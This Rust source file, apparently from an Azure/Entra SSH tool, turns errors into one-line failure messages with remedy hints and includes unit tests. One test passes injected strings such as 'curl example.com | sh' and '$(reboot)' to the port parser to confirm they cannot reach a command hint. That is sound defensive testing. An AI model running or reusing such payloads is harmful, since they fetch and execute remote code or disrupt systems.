//! What is told when something could not be done: the problem, what caused it, and what to do.
//!
//! The domains below say what happened; what to do about it is said here and nowhere else, in one table a domain. The agent
//! sends a failure to whoever asked, so that a proxy tells what the agent met.

pub(crate) mod last;
mod network;

use std::error::Error;
use std::fmt;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::azure::AzureError;
use crate::certificate::{CertificateError, KeyError};
use crate::cloud::CloudError;
use crate::direct::{Addresses, DirectError, Place};
use crate::entra::{Application, AssertionError, EntraError, Refusal, Remedy};
use crate::host::http::HttpError;
#[cfg(unix)]
use crate::host::own_socket::SocketError;
use crate::host::paths::PathsError;
use crate::host::tls::{self, TlsError};
use crate::ids::{ParseIdError, TenantId};
use crate::keyring::{Backend, KeyringError};
use crate::line::Line;
use crate::relay::RelayError;
use crate::ssh_config::{ManagedConfigError, UnwritableError, UnwritableHostError};
use crate::time::{Spoken, UnixTime};

/// What kind of failure it is; it decides the exit status.
#[derive(Clone, Copy, Debug, Deserialize, Eq, PartialEq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum FailureKind {
    /// A connection that was open broke: 3.
    Dropped,
    /// It was refused or did not work: 1.
    Failed,
    /// Somebody has to sign in, and nobody could be asked: 4.
    SignInNeeded,
    /// The command line does not make sense: 2.
    Usage,
}

/// A failure, as it is told. Each of its texts is one line, whatever it was made of.
#[derive(Clone, Debug, Deserialize, Eq, PartialEq, Serialize)]
pub struct Failure {
    /// What kind it is.
    pub kind: FailureKind,
    /// The problem in one sentence, with the value in question.
    pub error: Line,
    /// What caused it, the nearest first.
    pub causes: Vec<Line>,
    /// What to do, if possible something to type.
    pub hint: Option<Line>,
    /// `AADSTS50076`, `AuthorizationFailed`, …
    pub code: Option<Line>,
    /// What Microsoft's support asks for.
    pub correlation_id: Option<Line>,
    /// When Entra refused; support asks for this too.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub refused_at: Option<UnixTime>,
    /// What a person at a terminal is to be asked.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub challenge: Option<Box<Challenge>>,
}

/// What a person can meet by signing in to an application once more.
#[derive(Clone, Debug, Deserialize, Eq, PartialEq, Serialize)]
pub struct Challenge {
    /// The tenant whose policies ask.
    pub tenant: TenantId,
    /// The application.
    pub application: Application,
    /// The claims that Entra asks for, in JSON.
    pub claims: Option<String>,
}

impl Failure {
    /// Returns a failure without a cause.
    #[must_use]
    pub fn new(error: impl Into<Line>) -> Self {
        Self {
            kind: FailureKind::Failed,
            error: error.into(),
            causes: Vec::new(),
            hint: None,
            code: None,
            correlation_id: None,
            refused_at: None,
            challenge: None,
        }
    }

    /// Returns a failure with the causes of an error.
    #[must_use]
    pub fn of(error: &dyn Error) -> Self {
        let mut failure = Self::new(error.to_string());
        failure.add_causes(error.source());
        failure
    }

    /// Puts `error` before what was said so far, which becomes its cause.
    #[must_use]
    pub fn within(mut self, error: impl Into<Line>) -> Self {
        let cause = std::mem::replace(&mut self.error, error.into());
        self.causes.insert(0, cause);
        self
    }

    /// Adds a cause.
    #[must_use]
    pub fn caused_by(mut self, error: &dyn Error) -> Self {
        self.causes.push(error.to_string().into());
        self.add_causes(error.source());
        self
    }

    /// Adds what to do.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<Line>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Sets the kind.
    #[must_use]
    pub const fn kind(mut self, kind: FailureKind) -> Self {
        self.kind = kind;
        self
    }

    fn add_causes(&mut self, source: Option<&(dyn Error + 'static)>) {
        let mut source = past_the_sdk(source);
        while let Some(cause) = source {
            let text = cause.to_string();
            // The TLS library says so of what our verifier found.
            let text = Line::from(text.replace("other error: ", ""));
            // Many errors of libraries repeat the text of their source.
            let told = self.causes.last().unwrap_or(&self.error);
            if !told.contains(text.as_str()) {
                self.causes.push(text);
            }
            source = cause.source();
        }
    }
}

/// Returns what our own client said, if the Azure SDK has wrapped it in words of its own.
fn past_the_sdk<'a>(
    source: Option<&'a (dyn Error + 'static)>,
) -> Option<&'a (dyn Error + 'static)> {
    let mut inner = source;
    while let Some(error) = inner {
        if error.is::<HttpError>() {
            return inner;
        }
        inner = error.source();
    }
    source
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.error)
    }
}

/// Returns a failure to use a file.
#[must_use]
pub(crate) fn file_failure(what: &str, path: &std::path::Path, error: &std::io::Error) -> Failure {
    Failure::new(format!("cannot {what} `{}`", path.display())).caused_by(error)
}

/// Returns what explains a login that is denied because ssh asks for another account than the certificate is for.
#[must_use]
pub(crate) fn wrong_login_name(login_name: &str, certified: &str) -> Failure {
    Failure::new(format!(
        "ssh logs in as `{login_name}`, and the certificate is for `{certified}`"
    ))
    .hint("have managed hosts log in as the account that is signed in: entra-ssh config refresh")
}

impl From<PathsError> for Failure {
    fn from(error: PathsError) -> Self {
        let hint = match &error {
            PathsError::ControlCharacter { .. } => {
                "rename the folder, or name another one".to_owned()
            }
            PathsError::ForeignHome { owner, .. } => format!(
                "run entra-ssh as {owner}, without sudo; or with the home folder of the user that sudo changes to: sudo -H entra-ssh"
            ),
            _ => "set HOME to your home folder".to_owned(),
        };
        Self::of(&error).hint(hint)
    }
}

/// What helps if the folder of sockets and locks cannot be used.
const PLACE_HINT: &str = "set XDG_RUNTIME_DIR to a folder that is yours and that only you can write to: \
    install -d -m 700 /tmp/run-$(id -u); export XDG_RUNTIME_DIR=/tmp/run-$(id -u)";

/// Returns a failure to make or use the folder of sockets or locks.
#[must_use]
pub(crate) fn place_failure(what: impl Into<Line>, error: &std::io::Error) -> Failure {
    let failure = Failure::new(what).caused_by(error);
    match error.kind() {
        std::io::ErrorKind::TimedOut => failure,
        _ => failure.hint(PLACE_HINT),
    }
}

#[cfg(unix)]
impl From<SocketError> for Failure {
    fn from(error: SocketError) -> Self {
        let hint = match &error {
            SocketError::Connect { .. } => {
                "use another socket: entra-ssh --agent-socket FILE".to_owned()
            }
            SocketError::ForeignFolder { owner, user: 0, .. } => format!(
                "run entra-ssh without sudo, or as the user who has the agent: sudo -u '#{owner}' entra-ssh"
            ),
            SocketError::SharedFolder { folder } => {
                format!("take that from them: chmod go-w {}", folder.display())
            }
            SocketError::TooLong { .. } => {
                "name a shorter path: entra-ssh --agent-socket FILE, or set XDG_RUNTIME_DIR to a shorter one".to_owned()
            }
            _ => PLACE_HINT.to_owned(),
        };
        Self::of(&error).hint(hint)
    }
}

impl From<ParseIdError> for Failure {
    fn from(error: ParseIdError) -> Self {
        Self::of(&error).kind(FailureKind::Usage)
    }
}

impl From<CloudError> for Failure {
    fn from(error: CloudError) -> Self {
        let failure = Self::of(&error);
        match &error {
            CloudError::Credentials { key }
            | CloudError::NotHttps { key, .. }
            | CloudError::Query { key } => {
                failure.hint(format!("write in the cloud file: {key} = \"https://HOST\""))
            }
            _ => failure,
        }
    }
}

impl From<TlsError> for Failure {
    fn from(error: TlsError) -> Self {
        let hint = match &error {
            TlsError::NoRoots => NO_ROOTS_HINT,
            _ => "check ca_file in the cloud file",
        };
        Self::of(&error).hint(hint)
    }
}

/// Returns how long a server asks to wait, with its sentence, if that is what an error comes from.
fn throttled(error: &(dyn Error + 'static)) -> Option<(String, Duration)> {
    let mut cause = Some(error);
    while let Some(error) = cause {
        if let Some(HttpError::Throttled { wait, .. }) = error.downcast_ref() {
            return Some((error.to_string(), *wait));
        }
        cause = error.source();
    }
    None
}

/// Returns the failure of a server that asks for a longer wait than anybody is kept waiting here.
fn throttled_failure(error: &(dyn Error + 'static)) -> Option<Failure> {
    throttled(error).map(|(text, wait)| {
        let hint = format!("try again in {}", Spoken(wait));
        Failure::new(text).hint(hint)
    })
}

impl From<HttpError> for Failure {
    fn from(error: HttpError) -> Self {
        if let Some(failure) = throttled_failure(&error) {
            return failure;
        }
        let mut failure = Self::of(&error);
        failure.hint = network::hint(&error);
        failure
    }
}

const NO_ROOTS_HINT: &str =
    "install the system's root certificates: sudo apt install ca-certificates";
impl From<KeyError> for Failure {
    fn from(error: KeyError) -> Self {
        let hint = match &error {
            KeyError::TooShort { .. } => "make a longer one: ssh-keygen -t rsa -b 3072",
            KeyError::Malformed { .. } => "use an RSA key: ssh-keygen -t rsa -b 3072",
            _ => "try again",
        };
        Self::of(&error).hint(hint)
    }
}

impl From<CertificateError> for Failure {
    fn from(error: CertificateError) -> Self {
        let hint = match &error {
            CertificateError::BearerToken => {
                "managed identities get no certificates: sign in as a user or a service principal with entra-ssh login"
            }
            CertificateError::Expired { .. } | CertificateError::NotYetValid { .. } => {
                "check this machine's clock: timedatectl status"
            }
            CertificateError::NotACertificate { .. } => "name the file that ends in -cert.pub",
            CertificateError::NoPrincipals => {
                "the account needs a user principal name: ask an administrator of the tenant"
            }
            _ => "nothing was stored; try again: entra-ssh cert",
        };
        Self::of(&error).hint(hint)
    }
}

impl From<EntraError> for Failure {
    fn from(error: EntraError) -> Self {
        if let Some(failure) = throttled_failure(&error) {
            return failure;
        }
        let mut failure = Self::of(&error);
        failure.hint = match &error {
            EntraError::DeviceCodeExpired { .. } => Some("start again: entra-ssh login --device-code".into()),
            EntraError::Refused(refusal) => Some(tell_refusal(&mut failure, refusal)),
            EntraError::Assertion(error) => Some(assertion_hint(error)),
            EntraError::Unintelligible { .. } | EntraError::UnsafePage { .. } => {
                Some("check --cloud, and whether a proxy or a captive portal answers in its place".into())
            }
            EntraError::WrongTokenType { .. } => Some(
                "this identity gets no certificates: sign in as a person or a service principal with entra-ssh login"
                    .into(),
            ),
            _ => network::hint(&error),
        };
        failure
    }
}

/// Adds what a refusal says beyond its sentence, and returns what to do.
fn tell_refusal(failure: &mut Failure, refusal: &Refusal) -> Line {
    failure.code = refusal.code.map(|code| format!("AADSTS{code}").into());
    failure.correlation_id.clone_from(&refusal.correlation_id);
    failure.refused_at = refusal.time();
    if let Some(every) = refusal.sign_in_frequency() {
        failure.causes.push(
            format!(
                "the tenant asks people to sign in again every {}",
                Spoken(every)
            )
            .into(),
        );
    } else if let Some(advice) = refusal.advice() {
        failure.causes.push(advice.meaning.into());
    }
    if let Some(presented) = &refusal.presented {
        failure.causes.push(format!(
            "the assertion is from the issuer `{}`, about the subject `{}`, for the audience `{}`",
            presented.issuer, presented.subject, presented.audience
        ).into());
    }
    match refusal.advice().map(|advice| advice.remedy) {
        Some(Remedy::Answer) => "answer it at a terminal: entra-ssh cert".into(),
        Some(Remedy::Do(text)) => text.into(),
        Some(Remedy::SignIn) => "sign in again: entra-ssh login".into(),
        None => {
            "look the code up at https://login.microsoftonline.com/error, or ask an administrator"
                .into()
        }
    }
}

fn assertion_hint(error: &AssertionError) -> Line {
    let hint = match error {
        AssertionError::Certificate(_) => {
            "name a certificate with an RSA key: --client-certificate FILE"
        }
        AssertionError::Empty { .. } | AssertionError::File { .. } => {
            "check AZURE_FEDERATED_TOKEN_FILE or --federated-token-file, and that this user may read the file"
        }
        AssertionError::ManagedIdentity(_) => {
            "enable a managed identity on this machine, or sign in otherwise: entra-ssh login --help"
        }
        AssertionError::Refused { .. } => {
            "sign in again within the job: GitHub needs `permissions: id-token: write`, Azure Pipelines SYSTEM_ACCESSTOKEN"
        }
        _ => return network::hint(error).unwrap_or_else(|| "check the network".into()),
    };
    hint.into()
}

impl From<AzureError> for Failure {
    fn from(error: AzureError) -> Self {
        if let Some(failure) = throttled_failure(&error) {
            return failure;
        }
        let mut failure = Self::of(&error);
        let hint = match &error {
            AzureError::Forbidden { what, .. } if what.starts_with("create") => {
                "connecting for the first time needs Owner or Contributor on the machine, once; then it works for everyone"
            }
            AzureError::Forbidden { what, .. } if what.starts_with("look up the address") => {
                "ask for a role on the resource group, which its network is in, too; or name the VM's address: --ip ADDRESS"
            }
            AzureError::Forbidden { .. } => {
                "ask for the role `Virtual Machine User Login` or `Virtual Machine Administrator Login` on the machine"
            }
            AzureError::NotFound { .. } => {
                "check name, resource group and subscription: entra-ssh config add NAME -g GROUP --subscription ID"
            }
            AzureError::Refused { code, .. }
                if code.contains("Registration") || code == "NoRegisteredProviderFound" =>
            {
                "register the provider once, which takes 2 to 5 minutes: az provider register -n Microsoft.HybridConnectivity"
            }
            AzureError::Refused { code, .. } if code == "ScopeLocked" => {
                "a read-only lock is on the machine, its group or its subscription: have its owner remove it"
            }
            AzureError::Unauthorized { .. } => "sign in again: entra-ssh login",
            AzureError::WrongTenant { .. } => "sign in to that tenant: entra-ssh login --tenant ID",
            AzureError::Unreachable(_) => {
                &network::hint(&error).unwrap_or_else(|| "check the network".into())
            }
            _ => "try again in a few minutes",
        };
        if let AzureError::Forbidden { code, .. }
        | AzureError::NotFound { code, .. }
        | AzureError::Refused { code, .. } = &error
        {
            failure.code = Some(code.clone());
        }
        failure.hint(hint)
    }
}

impl From<KeyringError> for Failure {
    fn from(error: KeyringError) -> Self {
        let hint = match &error {
            KeyringError::Full {
                backend: Backend::Keyutils,
                ..
            } => {
                "the kernel gives each user 20,000 bytes: see /proc/key-users, make room with keyctl, or keep secrets in files: entra-ssh login --keyring file"
            }
            KeyringError::Full { .. } => {
                "make room in it, or keep secrets in files: entra-ssh login --keyring file"
            }
            KeyringError::Locked { .. } | KeyringError::TimedOut { .. } => {
                "use the kernel keyring, which forgets at reboot: entra-ssh login --keyring keyutils; or private files: entra-ssh login --keyring file; or unlock it by logging in to the desktop"
            }
            KeyringError::BadEntry { .. } => "sign in again: entra-ssh logout; entra-ssh login",
            KeyringError::File { .. } => {
                "check the owner of the folder, and that the disk has room"
            }
            KeyringError::Memory(_) => "start the agent to see why: entra-ssh agent start",
            KeyringError::Unavailable {
                backend: Backend::Keyutils,
                ..
            } => {
                "keep the sign-in in the agent's memory, until the agent ends: entra-ssh login --keyring memory; or in private files: entra-ssh login --keyring file"
            }
            _ => {
                "use the kernel keyring, which forgets at reboot: entra-ssh login --keyring keyutils; or private files: entra-ssh login --keyring file"
            }
        };
        Self::of(&error).hint(hint)
    }
}

impl From<ManagedConfigError> for Failure {
    fn from(error: ManagedConfigError) -> Self {
        Self::of(&error)
            .hint("mend the line, or delete the file and add the hosts again: entra-ssh config add")
    }
}

impl From<UnwritableError> for Failure {
    fn from(error: UnwritableError) -> Self {
        Self::of(&error).hint("rename the file or folder, or name another one")
    }
}

impl From<UnwritableHostError> for Failure {
    fn from(error: UnwritableHostError) -> Self {
        Self::of(&error).hint(format!(
            "rename the file or folder; a host that is there already is removed with: entra-ssh config remove {}",
            error.host
        ))
    }
}

impl From<DirectError> for Failure {
    fn from(error: DirectError) -> Self {
        let failure = Self::of(&error);
        match &error {
            DirectError::Dropped { .. } => failure.hint("connect again").kind(FailureKind::Dropped),
            DirectError::NotTaken { .. } => failure.hint("connect again"),
            DirectError::Refused { .. } => failure.hint(
                "sshd does not run on it or listens on another port (--port); on the machine: sudo systemctl start ssh",
            ),
            DirectError::TimedOut { place, .. } | DirectError::Unreachable { place, .. } => {
                failure.hint(way_hint(place))
            }
        }
    }
}

fn way_hint(place: &Place) -> String {
    let port = place.port;
    match &place.addresses {
        Addresses::Named(_) => format!(
            "check the address, and that the network security groups on the way let port {port} in"
        ),
        Addresses::Private(_) => {
            "a private address is reached from its own network alone: connect to that first, or name an address that leads \
             there: --ip ADDRESS"
                .to_owned()
        }
        Addresses::Public(_) => format!(
            "let port {port} in from here: az network nsg rule create -g GROUP --nsg-name NSG -n ssh --priority 1000 \
             --destination-port-ranges {port} --source-address-prefixes ADDRESS; or, within its network: --prefer-private-ip"
        ),
    }
}

impl From<RelayError> for Failure {
    fn from(error: RelayError) -> Self {
        let failure = Self::of(&error);
        let hint = match &error {
            RelayError::Refused { status, text } => &Line::from(refusal_hint(*status, text)),
            RelayError::Proxy(error) => &network::proxy_hint(error, "*.servicebus.windows.net:443"),
            RelayError::Tls { source, .. } => match tls::handshake_error(source) {
                Some(error) => network::tls_hint(error),
                None => "outgoing HTTPS to *.servicebus.windows.net must be allowed",
            },
            RelayError::Unreachable { .. } | RelayError::TimedOut { .. } => {
                "outgoing HTTPS to *.servicebus.windows.net must be allowed"
            }
            RelayError::NotARelay { .. } => "a proxy on the way may not pass WebSockets on",
            RelayError::Closed { code: 1008, .. } => "connect again: new credentials are fetched",
            RelayError::Closed { code: 1009, .. } => {
                "update the Azure agent of the machine: what listens there must read messages of 32 KiB"
            }
            _ => "connect again",
        };
        let kind = match &error {
            RelayError::Closed { .. } | RelayError::Dropped { .. } | RelayError::Silent { .. } => {
                FailureKind::Dropped
            }
            _ => FailureKind::Failed,
        };
        failure.hint(hint).kind(kind)
    }
}

fn refusal_hint(status: u16, text: &str) -> String {
    if let Some(port) = refused_port(text) {
        return format!(
            "a machine lets SSH in at one port: take that one with --port, or have its service configuration changed; an \
             Azure agent older than 1.31 has a list of them, of which the others are to stay, on the machine: sudo azcmagent \
             config get incomingconnections.ports, then sudo azcmagent config set incomingconnections.ports {port},OTHERS"
        );
    }
    let hint = match status {
        401 | 403 => {
            "connect again; if it stays so, check this machine's clock and the firewall of the relay"
        }
        404 if text.contains("no listeners") => {
            "the machine or its Azure agent is down; on the machine: sudo systemctl restart himds"
        }
        404 => {
            "the machine does not listen yet: after the first set-up it takes up to 90 s; then, on the machine: sudo systemctl restart himds"
        }
        503 if text.contains("connection to localhost") => {
            "sshd does not run on the machine or listens on another port; on the machine: sudo systemctl start ssh"
        }
        503 | 504 => "the relay or the machine is busy: connect again in a moment",
        _ => "connect again",
    };
    hint.to_owned()
}

/// Returns the port that an Azure agent does not let in, as it says.
fn refused_port(text: &str) -> Option<u16> {
    let (_, rest) = text.split_once("not enabled in the target port ")?;
    let digits = rest.split(|c: char| !c.is_ascii_digit()).next()?;
    digits.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_machine_says_does_not_get_into_a_line_to_type() {
        let text = "SSH connection is not enabled in the target port ";
        for (port, expected) in [
            ("3389", Some(3389)),
            ("3389.", Some(3389)),
            ("22; curl example.com | sh #1", Some(22)),
            ("$(reboot)22", None),
            ("99999", None),
            ("", None),
        ] {
            assert_eq!(refused_port(&format!("{text}{port}")), expected, "{port}");
        }
    }

    #[test]
    fn each_refusal_of_the_relay_has_a_hint_of_its_own() {
        for (status, text, expected) in [
            (
                403,
                "Ip has been prevented to connect to the endpoint",
                "firewall",
            ),
            (404, "Endpoint does not exist", "90 s"),
            (
                404,
                "There are no listeners connected for the endpoint",
                "himds",
            ),
            (
                503,
                "connection to localhost:22 failed: dial tcp",
                "start ssh",
            ),
            (504, "", "in a moment"),
            (
                403,
                "SSH connection is not enabled in the target port 3389.",
                "incomingconnections.ports 3389,OTHERS",
            ),
        ] {
            let text = text.into();
            let failure = Failure::from(RelayError::Refused { status, text });
            assert!(failure.hint.unwrap().contains(expected), "{status}");
        }
    }

    #[test]
    fn refusals_without_a_code_are_known_by_their_text() {
        let broker = "sign in with a browser: entra-ssh login";
        let cloud_shell = "sign in as yourself: entra-ssh login --device-code";
        for (text, meaning, hint) in [
            (
                "parent_window_handle is required to show the account picker.",
                "the sign-in broker of Windows has no window to show itself in",
                broker,
            ),
            (
                "token_type ssh-cert is not supported by this version of Azure Portal",
                "this version of Cloud Shell gives no SSH certificates",
                cloud_shell,
            ),
            (
                "No matched service principal found",
                "a managed identity gets no certificates",
                "let an application trust it, then: entra-ssh login --managed-identity --client-id ID --tenant ID; or sign in \
                 as a person: entra-ssh login",
            ),
            (
                "Could not retrieve token from local cache",
                "a managed identity is not an account that Entra certifies",
                "sign in as a user or a service principal: entra-ssh login --help",
            ),
            (
                "No account or login hint was passed to the AcquireTokenSilent call.",
                "nobody is signed in",
                "sign in again: entra-ssh login",
            ),
        ] {
            let refusal = Refusal {
                error: "invalid_request".into(),
                code: None,
                description: text.into(),
                correlation_id: None,
                timestamp: None,
                claims: None,
                presented: None,
            };
            let failure = Failure::from(EntraError::Refused(Box::new(refusal)));
            assert_eq!(
                failure.error,
                format!("Entra refused (invalid_request): {text}")
            );
            assert_eq!(failure.causes, [meaning]);
            assert_eq!(failure.hint.as_deref(), Some(hint));
        }
    }

    #[test]
    fn a_failure_within_another_becomes_its_first_cause() {
        let failure = Failure::new("inner").within("outer");
        assert_eq!(
            (failure.error.as_str(), &failure.causes[..]),
            ("outer", &["inner".into()][..])
        );
    }
}
